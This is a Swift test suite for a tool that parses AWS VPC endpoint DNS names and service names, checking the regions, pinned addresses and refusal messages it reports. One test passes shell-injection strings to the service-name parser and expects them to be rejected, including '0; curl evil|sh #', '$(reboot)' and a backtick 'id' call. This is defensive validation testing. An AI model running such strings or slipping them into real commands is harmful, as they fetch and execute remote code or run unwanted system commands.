import Links
import Testing
import Text
import Wire

@Suite struct Endpoints {
  @Test func takesANameANameWithAddressesOrAddresses() throws {
    let name = try readEndpoint(vpce)
    #expect(name.text == vpce)
    #expect(name.addresses.isEmpty)
    let pinned = try readEndpoint(vpce.uppercased() + ".=10.0.0.9,10.0.0.8,fd00::8,10.0.0.9")
    #expect(pinned.text == vpce)
    #expect(pinned.addresses.map(\.description) == ["10.0.0.8", "10.0.0.9", "fd00::8"])
    #expect(try readEndpoint("10.0.0.5,10.0.0.4").text == "10.0.0.4, 10.0.0.5")
    #expect(try readEndpoint(nil, ["10.0.0.5"]).text == "10.0.0.5")
    #expect(try readEndpoint(vpce, ["10.0.0.5"]).addresses.count == 1)
  }

  @Test func readsWhatAVPCEndpointsNameSays() throws {
    let regional = try VPCEndpointName(Name(vpce))
    #expect(regional.id == "vpce-0a1b2c3d4e5f60718")
    #expect(regional.service == "vpce-svc-0123456789abcdef0")
    #expect(regional.region == "us-east-1")
    #expect(regional.availabilityZone == nil)
    let s3 = try VPCEndpointName(Name("bucket.vpce-0ff-st.s3.eu-west-1.vpce.amazonaws.com"))
    #expect(s3.service == "s3" && !s3.isEndpointService && s3.region == "eu-west-1")
    let china = try VPCEndpointName(Name("vpce-0ff-st.vpce-svc-01.cn-north-1.vpce.amazonaws.com.cn"))
    #expect(china.region == "cn-north-1")
    let sovereign = try VPCEndpointName(Name("vpce-0ff-st.vpce-svc-01.eusc-de-east-1.vpce.amazonaws.eu"))
    #expect(sovereign.region == "eusc-de-east-1")
    let docker = try VPCEndpointName(Name("vpce-0ff-st.dkr.ecr.us-east-1.vpce.amazonaws.com"))
    #expect(docker.service == "dkr.ecr")
  }

  @Test(arguments: [
    ("", "the endpoint's name is empty"),
    ("https://\(vpce)/", "is a URL; give the host name alone"),
    ("vpce-svc-0123456789abcdef0.us-east-1.vpce.amazonaws.com", "is the provider's side of the service"),
    (serviceName, "is the name of the service vpce-svc-0123456789abcdef0, not of your endpoint"),
    ("vpce-0a1b2c3d4e5f60718", "is an id; give the DNS name"),
    ("vpce-0xxxxxxxx-st.vpce-svc-01.us-east-1.vpce.amazonaws.com", "still holds the placeholder"),
    ("vpce-0ff-st.vpce-svc-01.cn-north-1.vpce.amazonaws.com", "end in .amazonaws.com.cn"),
    ("vpce-0ff.vpce-svc-01.us-east-1.vpce.amazonaws.com", "a part is missing"),
    ("us-east-1.vpce.amazonaws.com", "is not the name of an endpoint"),
    ("a b", "is not a host name"),
    ("\(vpce)=10.0.0.300", "\"10.0.0.300\" is not an IP address"),
    ("\(vpce)=,", "an address missing beside a comma"),
    ("\(vpce)=224.0.0.5", "is not the address of a machine"),
    ("0.0.0.0", "is not the address of a machine"),
    ("10.0.0.1,\(vpce)", "is not an IP address"),
  ]) func refusesWithTheReason(argument: String, why: String) {
    let message = refusal { _ = try readEndpoint(argument) }
    #expect(message.contains(why), "\(message)")
  }

  @Test func aServicesNameHasNothingThatAShellObeys() {
    #expect(VPCEndpointService(serviceName)?.text == serviceName)
    #expect(VPCEndpointService("cn.com.amazonaws.vpce.cn-north-1.VPCE-SVC-0a")?.id == "vpce-svc-0a")
    for end in ["", " ", "0; curl evil|sh #", "$(reboot)", "0`id`", "0\n", "0'", "0\"", "<id>", "0\\", "0/a", "0_a"] {
      #expect(VPCEndpointService("com.amazonaws.vpce.us-east-1.vpce-svc-\(end)") == nil, "\(end)")
      #expect(VPCEndpointService("com.amazonaws.vpce.us-east-1\(end) .vpce-svc-0") == nil, "\(end)")
    }
    #expect(VPCEndpointService("com.amazonaws.vpce.$(reboot).vpce-svc-0") == nil)
  }

  @Test func refusesNothingAtAll() {
    #expect(refusal { _ = try readEndpoint(nil) }.hasPrefix("no endpoint: give the VPC endpoint's DNS name"))
    #expect(refusal { _ = try readEndpoint(nil) }.hasSuffix("until backroad link set-endpoint names one"))
  }

  @Test(arguments: [
    (vpce, ""), ("10.0.0.1", ""), ("\(vpce)=", ""),
    (
      "vpce-0ff-st-us-east-1a.vpce-svc-01.us-east-1.vpce.amazonaws.com",
      "the name for all zones is vpce-0ff-st.vpce-svc-01"
    ),
    ("lb.corp.example", "is not the DNS name of a VPC endpoint"),
  ]) func warnsOfWhatIsLikelyNotMeant(argument: String, warning: String) throws {
    let warnings = try Endpoint.read(argument).warnings
    #expect(warnings.map(\.message).joined().contains(warning) && warnings.isEmpty == warning.isEmpty)
    #expect(warnings.allSatisfy { $0.severity == .warning })
  }
}
